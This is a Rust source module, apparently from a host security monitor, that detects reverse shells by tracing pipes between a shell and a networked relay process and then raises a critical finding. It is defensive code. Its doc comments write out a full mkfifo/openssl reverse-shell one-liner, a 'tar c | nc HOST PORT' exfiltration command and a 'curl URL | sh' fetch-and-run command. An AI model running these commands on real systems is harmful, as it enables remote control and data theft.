//! A shell and a program with a connection that read each other's output, as in
//! `mkfifo f; sh -i < f 2>&1 | openssl s_client -connect HOST:PORT > f`. At most one
//! program such as `cat` may stand between.
//!
//! Output that only goes out, or input that only comes in, is no circle: neither
//! `tar c | nc HOST PORT` nor `curl URL | sh` is reported here.

use std::sync::Arc;

use sentinel_event::{Event, Process, Severity};

use super::pipes::{input, output};
use super::{ReverseShell, TECHNIQUES, is_commanded, named};
use crate::connections::{Spoken, is_local};
use crate::grade::milder;
use crate::{Finding, words};

/// Judges a shell that is started when the circle is otherwise closed.
pub fn judge_exec(detection: &ReverseShell, event: &Event) -> Option<Finding> {
    let mut members = around(detection, &event.process);
    members.push(event.process.clone());
    // The shell, the relay, or the program between them may come last.
    members
        .iter()
        .filter(|process| is_commanded(process))
        .find_map(|shell| {
            let (relay, spoken) = relay_of(detection, shell)?;
            Some(finding(event, shell, &relay, &spoken))
        })
}

/// Judges a connection by a program that may already be part of a circle.
pub fn judge_connection(detection: &ReverseShell, event: &Event) -> Option<Finding> {
    input(&event.process)?;
    judge_exec(detection, event)
}

/// The processes up to two pipes behind the output of `process`.
fn around(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
    let next = |process: &Process| match output(process) {
        Some(pipe) => detection.pipes.readers(pipe).to_vec(),
        None => Vec::new(),
    };
    let mut members = next(process);
    let second: Vec<_> = members.iter().flat_map(|member| next(member)).collect();
    members.extend(second);
    members
}

/// The program with a connection that writes what `shell` reads, itself or through one
/// other, and reads what `shell` writes.
fn relay_of(detection: &ReverseShell, shell: &Process) -> Option<(Arc<Process>, Arc<Spoken>)> {
    let (commands, answers) = (input(shell)?, output(shell)?);
    let writers = |pipe: u64| detection.pipes.writers(pipe).iter();
    let direct = writers(commands);
    let through_one = writers(commands)
        .filter_map(|between| input(between))
        .flat_map(writers);
    direct
        .chain(through_one)
        .filter(|relay| relay.pid != shell.pid && input(relay) == Some(answers))
        .find_map(|relay| {
            let spoken = detection.connections.of(relay)?;
            Some((relay.clone(), spoken.clone()))
        })
}

fn finding(event: &Event, shell: &Process, relay: &Process, spoken: &Spoken) -> Finding {
    let mut severity = Severity::Critical;
    if is_local(spoken.peer) {
        severity = milder(severity);
    }
    let relay_name = words::shown(words::program(&relay.exe));
    let shell_name = words::shown(words::program(&shell.exe));
    let mut earlier = Vec::new();
    if spoken.seq != event.seq {
        earlier.push(spoken.evidence(event.time_ns));
    }
    Finding {
        variant: "circle",
        subject: "".into(),
        severity,
        confidence: 90,
        summary: format!(
            "{relay_name} (pid {}) and a shell ({shell_name}, pid {}, {}) command each other \
             over {}{}",
            relay.pid,
            shell.pid,
            words::user(shell),
            named(spoken),
            words::origin(shell)
        ),
        reason: "what the program with the connection reads is the shell's output, and what it \
                 writes is the shell's input, by the pipes that they share"
            .to_owned(),
        techniques: TECHNIQUES,
        earlier,
        shows: format!("{} of the last member of the circle", event.kind()),
    }
}
